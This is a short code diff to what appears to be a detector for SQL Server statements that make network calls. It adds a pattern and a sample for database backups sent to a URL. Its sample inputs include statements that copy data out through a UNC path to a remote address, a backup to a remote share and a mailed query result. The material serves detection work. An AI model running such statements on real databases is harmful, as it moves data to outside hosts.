@@ -192,6 +192,7 @@ _NETWORK_CALL = Signal(
         ),
         _procedures("sp_serveroption", raw=r"'rpc"),
         _procedures("sp_configure", raw=r"'ad hoc dist[a-z ]{0,30}'\s{0,9},\s{0,9}(?:@configvalue\s{0,9}=\s{0,9})?1"),
+        Pattern(_SQLSERVER, ("url",), r"\bbackup (?:database|log)\b[^;]{1,300}?\bto url\b"),
         _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
         Pattern(_SQLSERVER, ("at",), r"\bexec(?:ute)?\([^;]{1,400}\)at \w"),
         Pattern(
@@ -254,6 +255,7 @@ _NETWORK_CALL = Signal(
             "DECLARE @p varchar(99) = CHAR(92) + CHAR(92) + '203.0.113.9'; EXEC xp_dirtree @p",
             "BACKUP LOG [store] TO DISK = '\\\\203.0.113.9\\s\\a.bak'",
             "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
+            "BACKUP DATABASE [shop] TO URL = 'https://example.blob.core.windows.net/b/a.bak'",
             "EXEC sp_configure 'Ad Hoc Distributed Queries', 1",
         ),
     },
